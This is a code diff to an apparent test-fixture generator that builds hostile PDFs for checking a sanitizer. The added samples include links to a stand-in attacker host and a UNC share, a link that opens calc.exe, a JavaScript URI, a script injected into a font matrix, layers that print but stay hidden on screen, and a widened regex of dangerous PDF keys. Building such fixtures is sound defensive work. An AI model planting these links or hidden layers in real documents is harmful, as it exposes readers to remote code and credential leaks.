@@ -92,6 +92,37 @@ def _aliran_luar(d: Pdf) -> None:
     d.Root.Data = d.make_stream(b"x", F=Dictionary(Type=Name.Filespec, F=String("/etc/passwd")))
 
 
+def _tautan(alamat: str) -> Callable[[Pdf], None]:
+    return aksi_tautan("URI", URI=String(alamat))
+
+
+def _dasar_alamat(d: Pdf) -> None:
+    d.Root.URI = Dictionary(Base=String("file:///C:/rahasia/"))
+
+
+def _gambar_dari_luar(d: Pdf) -> None:
+    lain = Dictionary(F=String("lain.pdf"), Page=0)
+    d.pages[0].obj.Cadangan = d.make_stream(b"q Q", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 9, 9], Ref=lain)
+
+
+def _matriks_berskrip(d: Pdf) -> None:
+    d.pages[0].obj.Cadangan = Dictionary(Type=Name.Font, FontMatrix=[1, 0, 0, 1, 0, String("0); alert(1) //")])
+
+
+def _lapisan(padam: str) -> Callable[[Pdf], None]:
+    """A layer that is printed; `padam`: what keeps it off the screen."""
+
+    def ubah(d: Pdf) -> None:
+        guna = Dictionary(Print=Dictionary(PrintState=Name.ON))
+        if padam == "ViewState":
+            guna.View = Dictionary(ViewState=Name.OFF)
+        lapisan = d.make_indirect(Dictionary(Type=Name.OCG, Name=String("rahasia"), Usage=guna))
+        asal = Dictionary(OFF=[lapisan]) if padam == "OFF" else Dictionary(BaseState=Name.OFF)
+        d.Root.OCProperties = Dictionary(OCGs=[lapisan], D=Dictionary() if padam == "ViewState" else asal)
+
+    return ubah
+
+
 def _media(subtipe: str, **isi: Any) -> Callable[[Pdf], None]:
     return lambda d: anotasi(d, Subtype=Name(f"/{subtipe}"), **isi)
 
@@ -142,6 +173,23 @@ BAHAYA: dict[str, tuple[Callable[[Pdf], object], str]] = {
     "suara": (_media("Sound"), "MULTIMEDIA"),
     "aksi-film": (aksi_tautan("Movie"), "MULTIMEDIA"),
     "aksi-media": (aksi_tautan("Rendition"), "MULTIMEDIA"),
+    "utas-berkas-lain": (aksi_tautan("Thread", F=String("lain.pdf"), D=0), "AKSI_JARAK_JAUH"),
+    "gambar-dari-luar": (_gambar_dari_luar, "AKSI_JARAK_JAUH"),
+    "terkait-di-luar": (
+        lambda d: d.Root.__setattr__("AF", Array([Dictionary(Type=Name.Filespec, F=String("a.xml"))])),
+        "AKSI_JARAK_JAUH",
+    ),
+    "tautan-berkas": (_tautan("file:///C:/Windows/calc.exe"), "TAUTAN_BERBAHAYA"),
+    "tautan-folder-bersama": (_tautan("\\\\penyerang\\bagi\\a.pdf"), "TAUTAN_BERBAHAYA"),
+    "tautan-skrip": (_tautan(" Java\tScript:alert(1)"), "TAUTAN_BERBAHAYA"),
+    "tautan-program": (_tautan("ms-word:ofe|u|http://penyerang.contoh/a.docm"), "TAUTAN_BERBAHAYA"),
+    "tautan-diska": (_tautan("C:\\rahasia.exe"), "TAUTAN_BERBAHAYA"),
+    "alamat-dasar": (_dasar_alamat, "TAUTAN_BERBAHAYA"),
+    "matriks-berskrip": (_matriks_berskrip, "SKRIP"),
+    "lapisan-padam": (_lapisan("OFF"), "CETAK_TERSEMBUNYI"),
+    "lapisan-padam-semua": (_lapisan("BaseState"), "CETAK_TERSEMBUNYI"),
+    "lapisan-tak-tampil": (_lapisan("ViewState"), "CETAK_TERSEMBUNYI"),
+    "catatan-hanya-cetak": (lambda d: anotasi(d, Subtype=Name.Stamp, F=4 | 32), "CETAK_TERSEMBUNYI"),
 }
 
 CARA: dict[str, dict[str, Any]] = {
@@ -153,7 +201,7 @@ CARA: dict[str, dict[str, Any]] = {
 
 NAMA_BAHAYA = re.compile(
     rb"/(?:JavaScript|JS|Launch|EmbeddedFiles?|EF|XFA|GoToR|GoToE|SubmitForm|ImportData|RichMedia\w*|Movie|Rendition|"
-    rb"Collection|FileAttachment|3D|Screen|Sound|URL|URI|FS)\b"
+    rb"Collection|FileAttachment|3D|Screen|Sound|URL|URI|FS|Thread|Ref|AF|Base|FontMatrix|OCProperties|PrintState|F)\b"
 )
 
 
@@ -201,13 +249,20 @@ def berbahaya() -> Iterator[Buruk]:
 
 
 def terkunci() -> Iterator[Buruk]:
-    """Files with a password to open, or only with restrictions."""
+    """Files with a password to open, or locked to a certificate."""
     larangan = Permissions(extract=False, print_lowres=False, print_highres=False)
     for versi in (2, 3, 4, 6):
-        for buka in ("", "rahasia"):
-            kunci = Encryption(owner="pemilik", user=buka, R=versi, allow=larangan, aes=versi >= 4, metadata=versi >= 4)
-            isi = simpan_pdf(pdf(), lambda _: None, encryption=kunci)
-            yield Buruk(f"terkunci-{versi}-{buka or 'dibatasi'}", isi, frozenset({"TERENKRIPSI"}))
+        kunci = Encryption(
+            owner="pemilik", user="rahasia", R=versi, allow=larangan, aes=versi >= 4, metadata=versi >= 4
+        )
+        isi = simpan_pdf(pdf(), lambda _: None, encryption=kunci)
+        yield Buruk(f"terkunci-{versi}-rahasia", isi, frozenset({"TERENKRIPSI"}))
+    dibatasi = simpan_pdf(pdf(), lambda _: None, encryption=Encryption(owner="pemilik", user="", R=4))
+    sertifikat = dibatasi.replace(b"/Filter /Standard", b"/Filter /PubSecur")
+    yield Buruk("terkunci-sertifikat", sertifikat, frozenset({"TERENKRIPSI"}))
+    for nama in ("js-pembuka", "program", "lampiran"):
+        isi = simpan_pdf(pdf(), BAHAYA[nama][0], encryption=Encryption(owner="pemilik", user="", R=6))
+        yield Buruk(f"dibatasi-{nama}", isi, frozenset({BAHAYA[nama][1]}))
 
 
 def dengan_aliran(data: bytes, **kamus: Any) -> bytes:
